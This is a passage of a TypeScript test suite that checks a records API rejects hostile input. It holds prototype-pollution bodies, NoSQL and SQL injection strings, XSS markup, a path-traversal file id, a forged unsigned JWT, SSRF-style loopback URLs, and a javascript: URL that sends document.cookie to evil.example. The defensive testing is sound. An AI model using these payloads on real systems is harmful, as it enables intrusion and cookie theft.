import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { anObject } from "../engine/support/object-builder.js";
import { expectProblem } from "../engine/support/problem-assertions.js";
import { formula, lookup, text } from "../metadata/builders.js";
import { type BadInputCase, sendCase } from "./support/bad-input-case.js";
import { type BatteryFixture, buildBatteryFixture } from "./support/battery-fixture.js";
import { filterQuery, PASSWORD } from "./support/org-admin.js";
import { criteriaRule } from "./support/security-documents.js";
import { takeTenantSnapshot } from "./support/tenant-snapshot.js";

// Every case: read the tenant back before and after, and demand the two readings be equal. The
// status alone proves nothing (Directus CVE-2025-55746 wrote first and answered 403 afterwards).

const INVOICES = "/api/v1/records/invoice";
const theInvoice = (f: BatteryFixture) => `${INVOICES}/${f.invoiceId}`;
const listed = (query: string) => `${INVOICES}?${query}`;
const filtered = (rule: unknown) => listed(filterQuery(rule));
const rawFilter = (json: string) => listed(`filter=${encodeURIComponent(json)}`);
const draft = (kind: string, name: string) => `/api/v1/metadata/draft/${kind}/${name}`;
const PUBLISH = "/api/v1/metadata/publish";
const LOGIN = "/api/v1/auth/login";
const bearer = (token: string) => ({ authorization: `Bearer ${token}` });

/** A valid invoice: each create case spoils it in exactly one way. */
const VALID = { title: "Bad input", amount: 1 };
const NO_SUCH_ID = "01ARZ3NDEKTSV4RRFFQ69G5FAV";
const nested = (levels: number, leaf = "1") => `${'{"a":'.repeat(levels)}${leaf}${"}".repeat(levels)}`;
const cursorOf = (value: unknown) => Buffer.from(JSON.stringify(value), "utf8").toString("base64url");
const deepRule = (levels: number): unknown => {
  let rule: unknown = { var: "title" };
  for (let i = 0; i < levels; i += 1) rule = { cat: [rule] };
  return rule;
};
const withFormula = (expression: unknown) =>
  anObject("batteryProbe")
    .withField(text("title"), formula("leak", { returnType: "text", expression }))
    .build();
const webhook = (url: string) => ({
  kind: "automation",
  name: "batteryHook",
  object: "invoice",
  label: { en: "Battery hook" },
  active: true,
  trigger: { type: "create" },
  actions: [{ type: "webhook", url }],
});
/** Re-puts the clerk's permission set as published, with `extra` members (none: back as it was). */
const putClerkSet = async (f: BatteryFixture, extra: Record<string, unknown>) => {
  const url = draft("permissionSet", "invoiceClerk");
  const { description: _, ...published } = (await f.admin.get(url)).body;
  expect((await f.admin.put(url, { ...published, ...extra })).status).toBe(200);
};
/** Removes every manual share of the target invoice, which a case that failed may have left. */
const unshareTheInvoice = async (f: BatteryFixture) => {
  const shares = await f.admin.get<{ shares: Array<{ id: string }> }>(`${theInvoice(f)}/shares`);
  for (const share of shares.body.shares)
    expect((await f.admin.delete(`${theInvoice(f)}/shares/${share.id}`)).status).toBe(204);
};
const attachment = (overrides: Record<string, unknown>) => ({
  fileId: "01ARZ3NDEKTSV4RRFFQ69G5FAV",
  name: "invoice.pdf",
  size: 1000,
  contentType: "application/pdf",
  ...overrides,
});

const KEYS: BadInputCase[] = [
  {
    name: "refuses __proto__ at the top level of a record body",
    method: "POST",
    path: INVOICES,
    body: '{"title": "Bad input", "amount": 1, "__proto__": {"isAdmin": true}}',
    status: 400,
    error: { path: "/__proto__", code: "body.unsafeKey" },
  },
  {
    name: "refuses constructor.prototype nested in a record body",
    method: "PATCH",
    path: theInvoice,
    ifMatch: "current",
    body: '{"location": {"lat": 1, "lng": 2, "constructor": {"prototype": {"isAdmin": true}}}}',
    status: 400,
    error: { path: "/location/constructor", code: "body.unsafeKey" },
  },
  {
    name: "refuses prototype inside an array of a record body",
    method: "POST",
    path: INVOICES,
    body: '{"title": "Bad input", "amount": 1, "tags": ["vip", {"prototype": {"polluted": 1}}]}',
    status: 400,
    error: { path: "/tags/1/prototype", code: "body.unsafeKey" },
  },
  {
    name: "refuses __proto__ nested in a standard user's update",
    as: "clerk",
    method: "PATCH",
    path: theInvoice,
    ifMatch: "current",
    body: '{"title": {"__proto__": {"isAdmin": true}}}',
    status: 400,
    error: { path: "/title/__proto__", code: "body.unsafeKey" },
  },
  {
    name: "refuses a $-prefixed key in a record body",
    method: "POST",
    path: INVOICES,
    body: { ...VALID, $set: { ownerId: "01ARZ3NDEKTSV4RRFFQ69G5FAV" } },
    status: 400,
    error: { path: "/$set", code: "body.unsafeKey" },
  },
  {
    name: "refuses a dotted key in a record body",
    method: "POST",
    path: INVOICES,
    body: { ...VALID, "account.name": "Evil" },
    status: 400,
    error: { path: "/account.name", code: "body.unsafeKey" },
  },
  {
    name: "refuses an operator object as a record value",
    as: "clerk",
    method: "PATCH",
    path: theInvoice,
    ifMatch: "current",
    body: { account: { $ne: null } },
    status: 400,
    error: { path: "/account/$ne", code: "body.unsafeKey" },
  },
  {
    name: "refuses __proto__ at the top level of a metadata draft",
    method: "PUT",
    path: draft("object", "invoice"),
    body: '{"kind": "object", "name": "invoice", "__proto__": {"manageMetadata": true}}',
    status: 400,
    error: { path: "/__proto__", code: "body.unsafeKey" },
  },
  {
    name: "refuses constructor nested in a metadata draft's field",
    method: "PUT",
    path: draft("object", "invoice"),
    body: '{"kind": "object", "name": "invoice", "fields": [{"name": "title", "type": "text", "constructor": {"prototype": {}}}]}',
    status: 400,
    error: { path: "/fields/0/constructor", code: "body.unsafeKey" },
  },
  {
    name: "refuses a $-prefixed key in a permission set draft",
    method: "PUT",
    path: draft("permissionSet", "invoiceClerk"),
    body: {
      kind: "permissionSet",
      name: "invoiceClerk",
      label: { en: "Clerk" },
      system: { $set: { modifyAllData: true } },
    },
    status: 400,
    error: { path: "/system/$set", code: "body.unsafeKey" },
  },
  {
    name: "refuses a dotted key in a permission set draft",
    method: "PUT",
    path: draft("permissionSet", "invoiceClerk"),
    body: {
      kind: "permissionSet",
      name: "invoiceClerk",
      label: { en: "Clerk" },
      fields: { "invoice.notes": { read: true, edit: true } },
    },
    status: 400,
    error: { path: "/fields/invoice.notes", code: "body.unsafeKey" },
  },
  {
    name: "refuses __proto__ in a publish body",
    method: "POST",
    path: PUBLISH,
    body: '{"__proto__": {"force": true}}',
    status: 400,
    error: { path: "/__proto__", code: "body.unsafeKey" },
  },
  {
    name: "refuses constructor in a new user's body",
    method: "POST",
    path: "/api/v1/users",
    body: `{"username": "mallory", "name": "Mallory", "email": "mallory@demo.example.com", "profile": "standardUser", "password": "${PASSWORD}", "constructor": {"prototype": {"profile": "systemAdministrator"}}}`,
    status: 400,
    error: { path: "/constructor", code: "body.unsafeKey" },
  },
  {
    name: "refuses __proto__ as a list filter operator",
    method: "GET",
    path: rawFilter('{"__proto__": [{"var": "title"}, "x"]}'),
    status: 400,
    error: { path: "/filter" },
  },
  {
    name: "refuses constructor as a list filter field",
    method: "GET",
    path: filtered({ "==": [{ var: "constructor" }, 1] }),
    status: 400,
    error: { path: "/filter/==/0" },
  },
  {
    name: "refuses a __proto__ path as a list filter field",
    method: "GET",
    path: filtered({ "==": [{ var: "title.__proto__" }, "x"] }),
    status: 400,
    error: { path: "/filter/==/0" },
  },
];

const INJECTION: BadInputCase[] = [
  {
    name: "refuses a $gt operator object as a filter value",
    method: "GET",
    path: filtered({ "==": [{ var: "title" }, { $gt: "" }] }),
    status: 400,
    error: { path: "/filter/==/1" },
  },
  {
    name: "refuses $where as a filter operator",
    method: "GET",
    path: filtered({ $where: "sleep(5000) || true" }),
    status: 400,
    error: { path: "/filter" },
  },
  {
    name: "refuses a $regex operator object inside an in list",
    method: "GET",
    path: filtered({ in: [{ var: "title" }, [{ $regex: ".*" }]] }),
    status: 400,
    error: { path: "/filter/in/1/0" },
  },
  {
    name: "refuses SQL as a filter operator",
    method: "GET",
    path: filtered({ "1=1; DROP TABLE r_invoice; --": [1, 1] }),
    status: 400,
    error: { path: "/filter" },
  },
  {
    name: "refuses SQL smuggled into a filter field name",
    method: "GET",
    path: filtered({ "==": [{ var: "title') OR 1=1 --" }, "x"] }),
    status: 400,
    error: { path: "/filter/==/0", code: "filter.unknownField" },
  },
  {
    name: "refuses SQL-looking text as a number filter value",
    method: "GET",
    path: filtered({ "==": [{ var: "amount" }, "0 OR 1=1"] }),
    status: 400,
    error: { path: "/filter/==/1" },
  },
  {
    name: "refuses SQL smuggled into a sort key",
    method: "GET",
    path: listed(`sort=${encodeURIComponent("title; DROP TABLE r_invoice")}`),
    status: 400,
    error: { path: "/sort/0", code: "sort.unknownField" },
  },
  {
    name: "refuses SQL smuggled into a field projection",
    method: "GET",
    path: listed(`fields=${encodeURIComponent("title) --")}`),
    status: 400,
    error: { path: "/fields/0" },
  },
  {
    name: "refuses a search of more than 200 characters of SQL",
    method: "GET",
    path: listed(`q=${encodeURIComponent("' OR 1=1; DROP TABLE r_invoice; -- ".repeat(8))}`),
    status: 400,
    error: { path: "/q", code: "q.tooLong" },
  },
  {
    name: "refuses a ReDoS-shaped search over the length limit",
    method: "GET",
    path: listed(`q=${encodeURIComponent(`(a+)+$${"a".repeat(250)}!`)}`),
    status: 400,
    error: { path: "/q", code: "q.tooLong" },
  },
  {
    name: "refuses an in list of 1001 values",
    method: "GET",
    path: filtered({ in: [{ var: "quantity" }, Array.from({ length: 1001 }, (_, i) => i)] }),
    status: 400,
    error: { path: "/filter/in/1", code: "filter.tooManyValues" },
  },
];

const SHAPE: BadInputCase[] = [
  {
    name: "refuses a record body nested 200 levels deep",
    method: "POST",
    path: INVOICES,
    body: `{"title": "Bad input", "amount": 1, "location": ${nested(200)}}`,
    status: 400,
    error: { code: "body.tooDeep" },
  },
  {
    name: "refuses a metadata draft nested 200 levels deep",
    method: "PUT",
    path: draft("object", "invoice"),
    body: `{"kind": "object", "name": "invoice", "label": ${nested(200)}}`,
    status: 400,
    error: { code: "body.tooDeep" },
  },
  {
    name: "refuses a list filter nested 500 levels deep",
    method: "GET",
    path: rawFilter(`${'{"!":'.repeat(500)}{"==": [{"var": "title"}, "x"]}${"}".repeat(500)}`),
    status: 400,
    error: { code: "filter.tooDeep" },
  },
  {
    name: "refuses a record body over 1 MB with 413",
    method: "POST",
    path: INVOICES,
    body: { ...VALID, title: "x".repeat(1_100_000) },
    status: 413,
  },
  {
    name: "refuses a metadata draft over 1 MB with 413",
    method: "PUT",
    path: draft("object", "invoice"),
    body: { kind: "object", name: "invoice", label: { en: "x".repeat(1_100_000) } },
    status: 413,
  },
  {
    name: "refuses malformed JSON in a record body",
    method: "POST",
    path: INVOICES,
    body: '{"title": "Bad input", "amount": 1',
    status: 400,
    error: { path: "", code: "body.notJson" },
  },
  {
    name: "refuses malformed JSON in an update",
    method: "PATCH",
    path: theInvoice,
    ifMatch: "current",
    body: "{title: 'unquoted'}",
    status: 400,
    error: { path: "", code: "body.notJson" },
  },
  {
    name: "refuses malformed JSON in a metadata draft",
    method: "PUT",
    path: draft("object", "invoice"),
    body: '{"kind": "object", "name": "invoice",}',
    status: 400,
    error: { path: "", code: "body.notJson" },
  },
  {
    name: "refuses malformed JSON in a list filter",
    method: "GET",
    path: rawFilter('{"==": [{"var": "title"}, '),
    status: 400,
    error: { path: "/filter", code: "filter.notJson" },
  },
  {
    name: "refuses a record body sent as text/plain",
    method: "POST",
    path: INVOICES,
    body: JSON.stringify(VALID),
    headers: { "content-type": "text/plain" },
    status: 415,
  },
  {
    name: "refuses a record body sent as a form",
    method: "PATCH",
    path: theInvoice,
    ifMatch: "current",
    body: "title=Hijacked&amount=0",
    headers: { "content-type": "application/x-www-form-urlencoded" },
    status: 415,
  },
  {
    name: "refuses a metadata draft sent as XML",
    method: "PUT",
    path: draft("object", "invoice"),
    body: "<object><name>invoice</name></object>",
    headers: { "content-type": "application/xml" },
    status: 415,
  },
  {
    name: "refuses an array instead of an object as a record body",
    method: "POST",
    path: INVOICES,
    body: [VALID],
    status: 422,
    error: { path: "", code: "body.notAnObject" },
  },
  {
    name: "refuses a string instead of an object as an update",
    method: "PATCH",
    path: theInvoice,
    ifMatch: "current",
    body: '"Hijacked"',
    status: 400,
    error: { path: "", code: "body.notJson" },
  },
  {
    name: "refuses a number instead of an object as a record body",
    method: "POST",
    path: INVOICES,
    body: "42",
    status: 400,
    error: { path: "", code: "body.notJson" },
  },
  {
    name: "refuses null as a record body",
    method: "POST",
    path: INVOICES,
    body: "null",
    status: 400,
    error: { path: "", code: "body.notJson" },
  },
  {
    name: "refuses an array instead of an object as a metadata draft",
    method: "PUT",
    path: draft("object", "invoice"),
    body: [{ kind: "object", name: "invoice" }],
    status: 422,
    error: { path: "", code: "document.notAnObject" },
  },
  {
    name: "refuses an array as a publish body",
    method: "POST",
    path: PUBLISH,
    body: [{ force: true }],
    status: 400,
    error: { path: "/force" },
  },
];

const MASS_ASSIGNMENT: BadInputCase[] = [
  {
    name: "refuses an unknown field",
    as: "clerk",
    method: "POST",
    path: INVOICES,
    body: { ...VALID, colour: "red" },
    status: 422,
    error: { path: "/colour", code: "field.unknown" },
  },
  {
    name: "refuses a field hidden from the caller exactly like an unknown one",
    as: "clerk",
    method: "PATCH",
    path: theInvoice,
    ifMatch: "current",
    body: { notes: "overwritten" },
    status: 422,
    error: { path: "/notes", code: "field.unknown" },
  },
  ...(
    [
      ["POST", "id", NO_SUCH_ID],
      ["POST", "ownerId", ""],
      ["POST", "createdBy", ""],
      ["POST", "tenant", "acme"],
      ["PATCH", "version", 99],
      ["PATCH", "ownerId", ""],
      ["PATCH", "createdAt", "2000-01-01T00:00:00.000Z"],
      ["PATCH", "updatedAt", "2000-01-01T00:00:00.000Z"],
      ["PATCH", "updatedBy", ""],
    ] as const
  ).map(
    ([method, key, value]): BadInputCase => ({
      name: `refuses the system field ${key} in a ${method === "POST" ? "new record" : "change"}`,
      as: "clerk",
      method,
      path: method === "POST" ? INVOICES : theInvoice,
      ...(method === "PATCH" && { ifMatch: "current" }),
      body: (f: BatteryFixture) => ({
        ...(method === "POST" && VALID),
        [key]: value === "" ? f.adminId : value,
      }),
      status: 422,
      error: { path: `/${key}`, code: "field.system" },
    }),
  ),
  ...(
    [
      ["POST", "number", "the autoNumber", "INV-9999"],
      ["PATCH", "gross", "the formula", 1_000_000],
      ["PATCH", "linesTotal", "the rollup sum", 0],
      ["POST", "lineCount", "the rollup count", 42],
    ] as const
  ).map(
    ([method, key, what, value]): BadInputCase => ({
      name: `refuses a value for ${what} field ${key}`,
      as: "clerk",
      method,
      path: method === "POST" ? INVOICES : theInvoice,
      ...(method === "PATCH" && { ifMatch: "current" }),
      body: { ...(method === "POST" && VALID), [key]: value },
      status: 422,
      error: { path: `/${key}`, code: "field.readOnly" },
    }),
  ),
];

const fieldCase = (name: string, body: unknown, path: string, code?: string): BadInputCase => ({
  name,
  as: "clerk",
  method: "PATCH",
  path: theInvoice,
  ifMatch: "current",
  body,
  status: 422,
  error: { path, ...(code !== undefined && { code }) },
});

const FIELD_VALUES: BadInputCase[] = [
  fieldCase("refuses text for a number field", { quantity: "ten" }, "/quantity", "field.notANumber"),
  fieldCase("refuses NaN for a currency field", { amount: "NaN" }, "/amount", "field.notANumber"),
  fieldCase("refuses true for a percent field", { discount: true }, "/discount", "field.notANumber"),
  fieldCase(
    "refuses February 30th for a date field",
    { dueDate: "2027-02-30" },
    "/dueDate",
    "field.invalidDate",
  ),
  fieldCase(
    "refuses words for a datetime field",
    { sentAt: "yesterday" },
    "/sentAt",
    "field.invalidDatetime",
  ),
  fieldCase("refuses 25:61 for a time field", { reminderAt: "25:61" }, "/reminderAt", "field.invalidTime"),
  fieldCase("refuses maybe for a boolean field", { paid: "maybe" }, "/paid", "field.notABoolean"),
  fieldCase("refuses a value outside a picklist", { status: "void" }, "/status", "field.notAnOption"),
  fieldCase(
    "refuses a value outside a multi-picklist",
    { tags: ["vip", "hacked"] },
    "/tags",
    "field.notAnOption",
  ),
  fieldCase("refuses an object for a multi-picklist", { tags: { vip: true } }, "/tags", "field.notAList"),
  fieldCase(
    "refuses a malformed e-mail address",
    { contactEmail: "not-an-email" },
    "/contactEmail",
    "field.invalidEmail",
  ),
  fieldCase(
    "refuses markup as a phone number",
    { phone: "<script>alert(1)</script>" },
    "/phone",
    "field.invalidPhone",
  ),
  fieldCase(
    "refuses a javascript: URL",
    { website: "javascript:alert(document.cookie)" },
    "/website",
    "field.invalidUrl",
  ),
  fieldCase(
    "refuses a lookup to a record that does not exist",
    { account: NO_SUCH_ID },
    "/account",
    "field.unknownReference",
  ),
  {
    ...fieldCase(
      "refuses a lookup to a record the caller cannot see",
      {},
      "/account",
      "field.unknownReference",
    ),
    body: (f: BatteryFixture) => ({ account: f.adminAccountId }),
  },
  fieldCase("refuses SQL as a lookup id", { account: "x' OR '1'='1" }, "/account", "field.invalidReference"),
  fieldCase(
    "refuses a user lookup to nobody",
    { approver: NO_SUCH_ID },
    "/approver",
    "field.unknownReference",
  ),
  fieldCase(
    "refuses a latitude beyond the pole",
    { location: { lat: 91, lng: 0 } },
    "/location",
    "field.invalidGeolocation",
  ),
  fieldCase(
    "refuses a file of a type the field does not accept",
    { attachment: attachment({ name: "x.html", contentType: "text/html" }) },
    "/attachment",
    "field.fileTypeNotAccepted",
  ),
  fieldCase(
    "refuses a file over the field's size limit",
    { attachment: attachment({ size: 2_000_000 }) },
    "/attachment",
    "field.fileTooLarge",
  ),
  fieldCase(
    "refuses a file reference without an id",
    { attachment: attachment({ fileId: "../../etc/passwd" }) },
    "/attachment",
    "field.invalidFile",
  ),
  fieldCase("refuses text over the field's maxLength", { title: "x".repeat(121) }, "/title"),
  fieldCase("refuses a number below the field's min", { quantity: -1 }, "/quantity"),
  fieldCase("refuses a percent above the field's max", { discount: 101 }, "/discount"),
  fieldCase("refuses clearing a required field", { title: null }, "/title", "field.required"),
  fieldCase(
    "refuses a change that breaks a validation rule",
    { status: "sent", account: null },
    "/account",
    "rule.sentNeedsAccount",
  ),
  {
    name: "refuses a new record without its required field",
    as: "clerk",
    method: "POST",
    path: INVOICES,
    body: { amount: 1 },
    status: 422,
    error: { path: "/title", code: "field.required" },
  },
];

const PRECONDITIONS: BadInputCase[] = [
  {
    name: "refuses an update based on a stale version with 409",
    as: "clerk",
    method: "PATCH",
    path: theInvoice,
    ifMatch: "stale",
    body: { title: "Lost update" },
    status: 409,
    code: "record.stale",
  },
  {
    name: "refuses an update without If-Match with 428",
    as: "clerk",
    method: "PATCH",
    path: theInvoice,
    body: { title: "Blind update" },
    status: 428,
    error: { path: "", code: "header.ifMatch" },
  },
  ...["abc", "*", "1, 2", "9999999999999", '"1" OR 1=1'].map(
    (ifMatch): BadInputCase => ({
      name: `refuses the malformed If-Match ${ifMatch} with 400`,
      as: "clerk",
      method: "PATCH",
      path: theInvoice,
      ifMatch,
      body: { title: "Odd precondition" },
      status: 400,
      error: { path: "", code: "header.ifMatch" },
    }),
  ),
  {
    name: "refuses a delete based on a stale version with 409",
    as: "clerk",
    method: "DELETE",
    path: theInvoice,
    ifMatch: "stale",
    status: 409,
    code: "record.stale",
  },
  {
    name: "refuses a delete with a malformed If-Match with 400",
    as: "clerk",
    method: "DELETE",
    path: theInvoice,
    ifMatch: "latest",
    status: 400,
    error: { path: "", code: "header.ifMatch" },
  },
];

const NOT_FOUND: BadInputCase[] = [
  {
    name: "answers a list of an unknown object with 404",
    method: "GET",
    path: "/api/v1/records/ghost",
    status: 404,
  },
  {
    name: "refuses a record of an unknown object with 404",
    method: "POST",
    path: "/api/v1/records/ghost",
    body: VALID,
    status: 404,
  },
  {
    name: "refuses a record of an object named __proto__ with 404",
    method: "POST",
    path: "/api/v1/records/__proto__",
    body: VALID,
    status: 404,
  },
  {
    name: "refuses an update of an unknown record with 404",
    method: "PATCH",
    path: `${INVOICES}/${NO_SUCH_ID}`,
    ifMatch: "1",
    body: { title: "Ghost" },
    status: 404,
  },
  {
    name: "refuses a delete of an unknown record with 404",
    method: "DELETE",
    path: `${INVOICES}/${NO_SUCH_ID}`,
    status: 404,
  },
  {
    name: "refuses an update of a record the caller cannot see with 404",
    as: "clerk",
    method: "PATCH",
    path: (f) => `/api/v1/records/account/${f.adminAccountId}`,
    ifMatch: "1",
    body: { name: "Hijacked" },
    status: 404,
  },
  {
    name: "refuses a delete of a record the caller cannot see with 404",
    as: "clerk",
    method: "DELETE",
    path: (f) => `/api/v1/records/account/${f.adminAccountId}`,
    status: 404,
  },
  {
    name: "refuses a draft of an unknown metadata kind with 404",
    method: "PUT",
    path: draft("script", "payload"),
    body: { kind: "script", name: "payload", source: "process.exit(1)" },
    status: 404,
  },
];

const LIST_PARAMS: BadInputCase[] = [
  {
    name: "refuses a filter on a field hidden from the caller",
    as: "clerk",
    method: "GET",
    path: filtered({ "==": [{ var: "notes" }, "hidden note"] }),
    status: 400,
    error: { path: "/filter/==/0", code: "filter.unknownField" },
  },
  {
    name: "refuses a filter on an unknown field",
    method: "GET",
    path: filtered({ "==": [{ var: "colour" }, "red"] }),
    status: 400,
    error: { path: "/filter/==/0", code: "filter.unknownField" },
  },
  {
    name: "refuses a sort on a field hidden from the caller",
    as: "clerk",
    method: "GET",
    path: listed("sort=-notes"),
    status: 400,
    error: { path: "/sort/0", code: "sort.unknownField" },
  },
  {
    name: "refuses a sort on a geolocation field",
    method: "GET",
    path: listed("sort=location"),
    status: 400,
    error: { path: "/sort/0", code: "sort.unknownField" },
  },
  {
    name: "refuses a sort on a multi-picklist field",
    method: "GET",
    path: listed("sort=title,-tags"),
    status: 400,
    error: { path: "/sort/1", code: "sort.unknownField" },
  },
  {
    name: "refuses a projection of a field hidden from the caller",
    as: "clerk",
    method: "GET",
    path: listed("fields=title,notes"),
    status: 400,
    error: { path: "/fields/1", code: "fields.unknown" },
  },
  ...["0", "201", "-1", "1e2", "ten"].map(
    (limit): BadInputCase => ({
      name: `refuses limit=${limit}`,
      method: "GET",
      path: listed(`limit=${limit}`),
      status: 400,
      error: { path: "/limit", code: "limit.outOfRange" },
    }),
  ),
  {
    name: "refuses a forged cursor",
    method: "GET",
    path: listed("sort=title&cursor=not-a-cursor"),
    status: 400,
    error: { path: "/cursor", code: "cursor.invalid" },
  },
  {
    name: "refuses a cursor carrying an operator object",
    method: "GET",
    path: listed(`sort=title&cursor=${cursorOf({ s: "title", a: [{ $gt: "" }, "x"] })}`),
    status: 400,
    error: { path: "/cursor", code: "cursor.invalid" },
  },
  {
    name: "refuses a cursor from another sort",
    method: "GET",
    path: (f) => listed(`sort=-amount&cursor=${f.titleCursor}`),
    status: 400,
    error: { path: "/cursor", code: "cursor.invalid" },
  },
];

const METADATA: BadInputCase[] = [
  {
    name: 'refuses a formula reading {"var": "constructor"}',
    method: "PUT",
    path: draft("object", "batteryProbe"),
    body: withFormula({ var: "constructor" }),
    status: 422,
    error: { path: "/fields/1/expression/var", code: "rule.forbiddenField" },
  },
  {
    name: "refuses a validation rule reading __proto__",
    method: "PUT",
    path: draft("object", "batteryProbe"),
    body: anObject("batteryProbe")
      .withField(text("title"))
      .withRule("sneaky", { "!!": { var: "__proto__.polluted" } }, "never")
      .build(),
    status: 422,
    error: { path: "/validationRules/0/errorWhen/!!/var", code: "rule.forbiddenField" },
  },
  {
    name: "refuses a formula nested deeper than the rule budget",
    method: "PUT",
    path: draft("object", "batteryProbe"),
    body: withFormula(deepRule(40)),
    status: 422,
    error: { code: "rule.tooDeep" },
  },
  {
    name: "refuses a formula with an unknown operator",
    method: "PUT",
    path: draft("object", "batteryProbe"),
    body: withFormula({ eval: ["process.exit(1)"] }),
    status: 422,
    error: { path: "/fields/1/expression", code: "rule.unknownOperator" },
  },
  {
    name: "refuses a formula using log",
    method: "PUT",
    path: draft("object", "batteryProbe"),
    body: withFormula({ log: { var: "title" } }),
    status: 422,
    error: { path: "/fields/1/expression" },
  },
  {
    name: "refuses a field named constructor",
    method: "PUT",
    path: draft("object", "batteryProbe"),
    body: anObject("batteryProbe").withField(text("title"), text("constructor")).build(),
    status: 422,
    error: { path: "/fields/1/name" },
  },
  {
    name: "refuses a field named like a system field",
    method: "PUT",
    path: draft("object", "batteryProbe"),
    body: anObject("batteryProbe").withField(text("title"), text("ownerId")).build(),
    status: 422,
    error: { path: "/fields/1/name" },
  },
  {
    name: "refuses a list-view filter on __proto__",
    method: "PUT",
    path: draft("listView", "batteryView"),
    body: {
      kind: "listView",
      name: "batteryView",
      object: "invoice",
      label: { en: "Battery" },
      columns: ["title"],
      filter: { "==": [{ var: "__proto__" }, 1] },
    },
    status: 422,
    error: { path: "/filter/==/0", code: "filter.unknownField" },
  },
  {
    name: "refuses a sharing rule whose criteria read constructor",
    method: "PUT",
    path: draft("sharingRule", "batteryShare"),
    body: criteriaRule("batteryShare", "invoice", { "==": [{ var: "constructor" }, 1] }, "role:ceo", "edit"),
    status: 422,
    error: { path: "/criteria/==/0" },
  },
  ...(
    [
      ["a javascript: URL", "javascript:fetch('https://evil.example/'+document.cookie)"],
      // Loopback, private and metadata addresses are refused when a delivery resolves them
      // (tests/engine/automation, tests/engine/webhooks): the allow-list is per tenant.
      ["an FTP address", "ftp://hooks.example.com/invoice"],
      ["a hexadecimal IP literal", "https://0x7f000001/"],
      ["an octal IP literal", "https://0177.0.0.1/"],
      ["a decimal IP literal", "https://2130706433/"],
      ["an IPv6 literal", "https://[::1]/"],
      ["credentials in the URL", "https://user:secret@hooks.example.com/"],
    ] as const
  ).map(
    ([what, url]): BadInputCase => ({
      name: `refuses a webhook to ${what}`,
      method: "PUT",
      path: draft("automation", "batteryHook"),
      body: webhook(url),
      status: 422,
      error: { path: "/actions/0/url" },
    }),
  ),
  {
    name: "refuses to publish an invalid draft",
    method: "POST",
    path: PUBLISH,
    body: {},
    status: 422,
    error: { code: "field.unknownReference" },
    setup: async (f) => {
      const broken = anObject("batteryBroken")
        .withField(text("title"), lookup("ghost", { reference: "ghostObject" }))
        .build();
      expect((await f.admin.put(draft("object", "batteryBroken"), broken)).status).toBe(200);
    },
    teardown: async (f) => {
      expect((await f.admin.delete(draft("object", "batteryBroken"))).status).toBe(204);
    },
  },
  {
    name: "refuses an unknown option in a publish body instead of publishing anyway",
    method: "POST",
    path: PUBLISH,
    body: { dryRun: true },
    status: 400,
    error: { path: "/dryRun", code: "field.unknown" },
    // A pending change, so that a publish ignoring the option would go ahead (not answer 409).
    setup: (f) => putClerkSet(f, { description: { en: "Pending change" } }),
    teardown: (f) => putClerkSet(f, {}),
  },
  {
    name: "refuses a publish body whose force is not a boolean",
    method: "POST",
    path: PUBLISH,
    body: { force: "yes" },
    status: 400,
    error: { path: "/force" },
  },
];

const SIGN_IN: BadInputCase[] = [
  {
    name: "refuses a sign-in without any credentials",
    as: "anonymous",
    method: "POST",
    path: LOGIN,
    body: {},
    status: 400,
    error: { path: "/tenant", code: "field.required" },
  },
  {
    name: "refuses a sign-in with credentials of the wrong types",
    as: "anonymous",
    method: "POST",
    path: LOGIN,
    body: { tenant: 42, username: ["admin"], password: true },
    status: 400,
    error: { path: "/username", code: "field.required" },
  },
  {
    name: "refuses an operator object as a password",
    as: "anonymous",
    method: "POST",
    path: LOGIN,
    body: { tenant: "demo", username: "admin", password: { $ne: "" } },
    status: 400,
    error: { path: "/password/$ne", code: "body.unsafeKey" },
  },
  {
    name: "refuses an object as a password",
    as: "anonymous",
    method: "POST",
    path: LOGIN,
    body: { tenant: "demo", username: "admin", password: { length: 8 } },
    status: 400,
    error: { path: "/password", code: "field.required" },
  },
  {
    name: "refuses a password longer than 200 characters",
    as: "anonymous",
    method: "POST",
    path: LOGIN,
    body: { tenant: "demo", username: "admin", password: "p".repeat(201) },
    status: 400,
    error: { path: "/password", code: "field.required" },
  },
  {
    name: "refuses an array as a sign-in body",
    as: "anonymous",
    method: "POST",
    path: LOGIN,
    body: [{ tenant: "demo", username: "admin", password: PASSWORD }],
    status: 400,
  },
  {
    name: "refuses a write with an expired token",
    as: "anonymous",
    method: "PATCH",
    path: theInvoice,
    ifMatch: "current",
    headers: (f) => bearer(f.expiredToken),
    body: { title: "Expired" },
    status: 401,
  },
  {
    name: "refuses a write with a token revoked by logout",
    as: "anonymous",
    method: "POST",
    path: INVOICES,
    headers: (f) => bearer(f.revokedToken),
    body: VALID,
    status: 401,
  },
  {
    name: "refuses a write with a garbage token",
    as: "anonymous",
    method: "POST",
    path: INVOICES,
    headers: bearer("garbage-garbage-garbage"),
    body: VALID,
    status: 401,
  },
  {
    name: "refuses a write with a made-up token of the tenant",
    as: "anonymous",
    method: "DELETE",
    path: theInvoice,
    headers: bearer(`demo.${"A".repeat(43)}`),
    status: 401,
  },
  {
    name: "refuses a write with a token whose tenant is a path",
    as: "anonymous",
    method: "POST",
    path: INVOICES,
    headers: bearer(`...${"A".repeat(43)}`),
    body: VALID,
    status: 401,
  },
  {
    name: "refuses a write with an unsigned JWT",
    as: "anonymous",
    method: "POST",
    path: PUBLISH,
    headers: bearer("eyJhbGciOiJub25lIn0.eyJzdWIiOiJhZG1pbiIsInRlbmFudCI6ImRlbW8ifQ."),
    body: { force: true },
    status: 401,
  },
  {
    name: "refuses a write with Basic credentials",
    as: "anonymous",
    method: "POST",
    path: INVOICES,
    headers: { authorization: `Basic ${Buffer.from("admin:test-admin-password").toString("base64")}` },
    body: VALID,
    status: 401,
  },
  {
    name: "refuses a write without credentials",
    as: "anonymous",
    method: "POST",
    path: INVOICES,
    body: VALID,
    status: 401,
  },
];

const SHARING: BadInputCase[] = [
  {
    name: "refuses an unknown key in a share body instead of sharing without it",
    as: "clerk",
    method: "POST",
    path: (f) => `${theInvoice(f)}/shares`,
    body: (f: BatteryFixture) => ({ user: f.adminId, access: "read", expiresAt: "2000-01-01T00:00:00Z" }),
    status: 422,
    error: { path: "/expiresAt", code: "field.unknown" },
    teardown: unshareTheInvoice,
  },
  {
    name: "refuses a share with an access level beyond read and edit",
    as: "clerk",
    method: "POST",
    path: (f) => `${theInvoice(f)}/shares`,
    body: (f: BatteryFixture) => ({ user: f.adminId, access: "owner" }),
    status: 422,
    error: { path: "/access", code: "field.notAnOption" },
  },
  {
    name: "refuses an ownership transfer to something that is not a user id",
    as: "clerk",
    method: "POST",
